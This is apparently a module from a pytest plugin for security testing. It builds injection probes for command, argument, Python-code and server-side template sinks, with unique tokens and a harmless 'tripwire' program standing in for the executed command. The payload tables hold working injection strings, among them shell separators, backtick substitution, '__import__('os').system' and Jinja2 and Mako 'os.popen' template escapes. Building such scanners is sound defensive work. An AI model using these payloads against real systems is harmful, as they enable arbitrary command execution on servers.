"""Attack inputs for sinks beside SQL. Each carries fresh tokens: what shows them shows the probe.

They change nothing of the target's own: what runs is the tripwire, what is read is the sentinel,
what is written lands in the drop directory.
"""

from __future__ import annotations

import dataclasses
import secrets
from typing import TYPE_CHECKING

from pytest_cmdbguard.probes.payloads import fresh_token

if TYPE_CHECKING:
    from collections.abc import Iterator, Mapping

# Family to payload; {c} and {d} are the tokens, {tripwire} a program on the target's PATH.
COMMANDS: Mapping[str, Mapping[str, str]] = {
    "quick": {
        "separator": "{c};{tripwire} {d};",
        "substitution": "{c}$({tripwire} {d})",
        "single-quoted": "{c}';{tripwire} {d};'",
        "line": "{c}\n{tripwire} {d}\n",
    },
    "full": {
        "double-quoted": '{c}";{tripwire} {d};"',
        "pipe": "{c}|{tripwire} {d}",
        "and": "{c}&&{tripwire} {d}",
        "background": "{c}&{tripwire} {d}&",
        "backtick": "{c}`{tripwire} {d}`",
        "without-blanks": "{c};{tripwire}${{IFS}}{d};",
        "carriage-return": "{c}\r\n{tripwire} {d}\r\n",
        "bracket": "{c});{tripwire} {d};(",
    },
}
ARGUMENTS: Mapping[str, Mapping[str, str]] = {
    "quick": {"option": "-{c}", "long-option": "--{c}={d}", "word": "{c} -{d}"},
    "full": {"attached": "-o{c}"},
}
CODE: Mapping[str, Mapping[str, str]] = {
    "quick": {
        "expression": "{c}.{d}",
        "import": "__import__('os').system('{tripwire} {d}')or'{c}'",
    },
    "full": {
        "quoted": "'+str({c}.{d})+'",
        "double-quoted": '"+str({c}.{d})+"',
        "argument": "1)+({c}.{d})+(1",
        "number": "1+{c}.{d}",
    },
}
# What evaluation shows is {x}*{y}, which no payload may hold itself: many places tell what they
# were told. One text for the engines whose marks do not disturb each other.
TEMPLATES: Mapping[str, Mapping[str, str]] = {
    "quick": {
        "arithmetic": "{c}{{{{{x}*{y}}}}}${{{x}*{y}}}{d}",
        "internals": "{c}{{{{''.__class__.__mro__}}}}{d}",
        "globals": "{c}{{{{cycler.__init__.__globals__.os.popen('{tripwire} {d}').read()}}}}",
    },
    "full": {
        "tags": "{c}<%={x}*{y}%>#{{{x}*{y}}}{d}",
        "statement": "{c}{{%set v={x}*{y}%}}{{{{v}}}}{d}",
        "django": "{c}{{%widthratio {x} 1 {y}%}}{d}",
        "attribute-filter": "{c}{{{{''|attr('__class__')|attr('__mro__')}}}}{d}",
        "mako": "{c}${{self.module.cache.util.os.popen('{tripwire} {d}').read()}}",
        "lipsum": "{c}{{{{lipsum.__globals__['os'].popen('{tripwire} {d}').read()}}}}",
    },
}
FORMAT = "{c}{{{name}.__class__.__mro__}}{d}"
FORMAT_NAMES = ("0", "device", "item", "self", "user", "request")


@dataclasses.dataclass(frozen=True, slots=True, kw_only=True)
class SinkProbe:
    """One input with its tokens.

    ``expected`` is what only an evaluation of it can show; ``beside`` are values that go with it,
    by (location, name), such as the name of a file.
    """

    family: str
    text: str | bytes
    tokens: tuple[str, ...]
    expected: str = ""
    beside: Mapping[tuple[str, str], object] = dataclasses.field(default_factory=dict)


def of_table(
    table: Mapping[str, Mapping[str, str]], profile: str, **places: str
) -> Iterator[SinkProbe]:
    """The probes of a table for one injection point, tokens and numbers fresh.

    Args:
        table: profile to family to payload; ``full`` has what ``quick`` has besides its own.
        profile: ``quick`` or ``full``.
        places: what else the payloads name, such as ``tripwire``.
    """
    chosen = dict(table["quick"]) | (dict(table["full"]) if profile == "full" else {})
    for family, payload in chosen.items():
        yield of_payload(family, payload, **places)


def of_payload(family: str, payload: str, **places: str) -> SinkProbe:
    """One probe; its tokens are ``{c}`` and ``{d}`` of the payload, as far as it has them."""
    x, y = (secrets.randbelow(9000) + 1000 for _ in range(2))
    numbers = {"x": str(x), "y": str(y)}
    tokens = {name: fresh_token() for name in ("c", "d")}
    text = payload.format_map({**places, **numbers, **tokens})
    return SinkProbe(
        family=family,
        text=text,
        tokens=tuple(token for token in tokens.values() if token in text),
        expected=str(x * y) if "{x}" in payload else "",
    )
